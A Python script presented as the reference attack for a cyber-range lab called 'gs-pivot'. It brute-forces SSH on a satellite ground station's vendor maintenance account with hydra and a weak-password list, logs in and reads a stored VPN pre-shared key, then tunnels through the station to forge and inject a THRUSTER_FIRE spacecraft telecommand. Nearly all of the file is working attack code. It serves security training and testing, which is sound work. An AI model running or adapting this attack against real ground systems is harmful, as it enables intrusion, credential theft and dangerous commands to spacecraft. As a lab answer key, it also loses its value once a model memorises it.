"""Reference attack for gs-pivot: run on the attacker workstation (corporate network), as
the student.

1. The ground station answers on the corporate network: SSH (22) and its packet service
   (10025) are both there, a flat network.
2. Brute-force SSH on the station for the vendor maintenance account `gsmaint` with hydra
   and the shipped word list of weak passwords.
3. Loot and pivot: log in with the password found (paramiko) and forward a connection through the
   station to its own packet service (SSH direct-tcpip to 127.0.0.1:10025), as
   `ssh -L 10025:127.0.0.1:10025 gsmaint@ground-station` would. The account's notes
   (/srv/support-notes.txt) hold the vendor's support-VPN pre-shared key.
4. Hand the station a PUS-C telecommand (THRUSTER_FIRE, 8,1 function 4): it frames it,
   protects it with its operational SDLS key and uplinks it. The spacecraft executes a
   hazardous command that mission control never sent.

Exit status 0 when the station took the telecommand; 2 when a step failed (message on the
last line).
"""

from __future__ import annotations

import os
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import time
from importlib import resources

import paramiko

from labctl.protocols.pus import PusTc

STATION = "ground-station"
USER = "gsmaint"
PACKET_SERVICE = ("127.0.0.1", 10025)  # seen from the station itself
PLATFORM_APID = 0x064
THRUSTER_FIRE = 4  # 8,1 function id
BURN_MS = 2600
SOURCE_ID = 0x0BAD  # not mission control's
NOTES = "/srv/support-notes.txt"
#: Time for the station to frame and uplink the command before the tunnel closes.
SETTLE_S = 5.0


def fail(message: str) -> int:
    print(message, flush=True)
    return 2


def brute_force() -> str | None:
    """The maintenance password, found by hydra with the shipped weak-password list."""
    listing = resources.files("labctl") / "data" / "wordlists" / "weak-passwords.txt"
    words = [w for w in listing.read_text().splitlines() if w.strip() and not w.startswith("#")]
    hydra = shutil.which("hydra")
    if hydra is None:
        return None
    with tempfile.TemporaryDirectory() as work:
        wordlist = os.path.join(work, "words.txt")
        with open(wordlist, "w") as out:
            out.write("\n".join(words) + "\n")
        argv = [hydra, "-I", "-f", "-t", "4", "-l", USER, "-P", wordlist, f"ssh://{STATION}"]
        for attempt in range(2):  # a busy station drops some connections: try once more
            print("$", " ".join(argv), flush=True)
            run = subprocess.run(argv, capture_output=True, text=True, cwd=work, check=False)
            found = re.search(rf"login:\s+{USER}\s+password:\s+(\S+)", run.stdout)
            if found:
                return found[1]
            print(f"hydra run {attempt + 1}: no password ({run.stderr.strip()[-200:]})", flush=True)
    return None


def telecommand() -> bytes:
    """THRUSTER_FIRE as a PUS-C packet, the way mission control writes them."""
    data = struct.pack(">HH", THRUSTER_FIRE, BURN_MS)
    return PusTc(PLATFORM_APID, 8, 1, data, seq_count=0x2A2A, source_id=SOURCE_ID).encode()


def pivot(password: str) -> None:
    """Log in as the maintenance account and send the telecommand through a forwarded
    connection to the station's packet service."""
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    client.connect(
        STATION,
        username=USER,
        password=password,
        timeout=15,
        allow_agent=False,
        look_for_keys=False,
    )
    try:
        _, stdout, _ = client.exec_command(f"cat {NOTES}", timeout=15)
        print(stdout.read().decode("utf-8", "replace").strip(), flush=True)
        transport = client.get_transport()
        if transport is None:
            raise paramiko.SSHException("no transport")
        channel = transport.open_channel("direct-tcpip", PACKET_SERVICE, ("127.0.0.1", 0))
        try:
            channel.sendall(telecommand())
            # The station sends telemetry to every client: read it while it uplinks.
            channel.settimeout(1.0)
            heard = 0
            deadline = time.monotonic() + SETTLE_S
            while time.monotonic() < deadline:
                try:
                    chunk = channel.recv(65536)
                except TimeoutError:
                    continue
                if not chunk:
                    break
                heard += len(chunk)
            print(f"telemetry through the tunnel: {heard} octets", flush=True)
        finally:
            channel.close()
    finally:
        client.close()


def main() -> int:
    password = brute_force()
    if password is None:
        return fail(f"no password found for {USER}@{STATION}")
    print(f"password of {USER}: {password}", flush=True)
    try:
        pivot(password)
    except (OSError, paramiko.SSHException) as exc:
        return fail(f"pivot through {STATION} failed: {exc}")
    print(f"sent THRUSTER_FIRE {BURN_MS} ms through {USER}@{STATION} to its packet service")
    return 0


if __name__ == "__main__":
    sys.exit(main())
